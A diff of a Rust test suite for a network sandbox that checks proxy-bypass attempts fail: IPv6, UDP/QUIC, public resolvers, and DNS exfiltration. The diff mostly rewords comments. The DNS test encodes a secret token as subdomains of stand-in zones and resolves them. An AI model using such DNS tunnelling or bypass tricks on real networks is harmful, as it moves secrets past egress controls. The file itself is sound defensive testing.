@@ -1,4 +1,4 @@
-//! Ways around the gate: each gets somewhere without the wall, and nowhere behind it.
+//! Attempts to bypass the gate: each works without the wall, and fails behind it.
 
 use std::net::{IpAddr, Ipv4Addr};
 
@@ -11,13 +11,13 @@ tests![
     h04_ipv6_reaches_nothing,
     h05_programs_that_ignore_the_proxy_reach_nothing_denied,
     h05_datagrams_and_quic_reach_nothing,
-    h06_names_do_not_carry_data_out,
+    h06_dns_names_do_not_exfiltrate_data,
     h06_other_name_servers_are_not_reached,
 ];
 
 const FILES: [&str; 2] = ["--allow-host", "files.test"];
 
-/// `dial.py` with these words.
+/// Runs `dial.py` with these arguments.
 fn dial<'a>(words: &[&'a str]) -> Vec<&'a str> {
     [&["python3", "-c", include_str!("programs/dial.py")], words].concat()
 }
@@ -77,7 +77,7 @@ fn h04_ipv6_reaches_nothing() {
     let mapped = format!("::ffff:{}", place.address);
     let run = reaches_only_without_wall(&place, &FILES, &dial(&["tcp", &mapped, "443"]));
     assert_eq!(run.code, 1);
-    // What a kernel does by itself for a network it finds: it asks who the routers are.
+    // The kernel would assign a link-local address to any real interface.
     let addresses = "print(open('/proc/net/if_inet6').read())";
     assert!(!inside(&FILES, &["python3", "-c", addresses]).stdout.contains("fe80"));
 }
@@ -118,7 +118,7 @@ fn h05_datagrams_and_quic_reach_nothing() {
         let run = reaches_only_without_wall(&place, &FILES, &dial(&["udp", &address, port]));
         assert_eq!(run.code, 1, "{run:?}");
     }
-    // An allowed name leads to an address for TCP; datagrams to it go nowhere.
+    // An allowed name resolves to an address for TCP only; datagrams to it are dropped.
     let watch = Watch::start();
     direct(&dial(&["udp", "files.test", "443"]));
     watch.wait("QUIC on the machine", |entry| entry.event == "udp" && entry.to.ends_with(":443"));
@@ -130,10 +130,10 @@ fn h05_datagrams_and_quic_reach_nothing() {
     assert_eq!(watch.seen(quic), []);
 }
 
-fn h06_names_do_not_carry_data_out() {
+fn h06_dns_names_do_not_exfiltrate_data() {
     let look_up = "import socket, sys\nfor name in sys.argv[1:]:\n try: print(socket.getaddrinfo(name, 443))\n except OSError as error: print(error)";
     let token = "c2VjcmV0LXRva2Vu";
-    // Below a zone that is not allowed, below one that is, and below an allowed wildcard.
+    // In a zone that is not allowed, in one that is, and below an allowed wildcard.
     let names = [format!("{token}.tunnel.test"), format!("{token}.files.test")];
     let words = ["python3", "-c", look_up, &names[0], &names[1]];
     let carries = |entry: &stockade_internet::Entry| {
@@ -151,7 +151,7 @@ fn h06_names_do_not_carry_data_out() {
 }
 
 fn h06_other_name_servers_are_not_reached() {
-    // Resolvers that anybody may ask, DNS over TLS, and those that ask everybody nearby.
+    // Public resolvers, DNS over TLS, and multicast and broadcast name services.
     for (kind, address, port) in [
         ("udp", [8, 8, 8, 8], "53"),
         ("tcp", [8, 8, 8, 8], "53"),
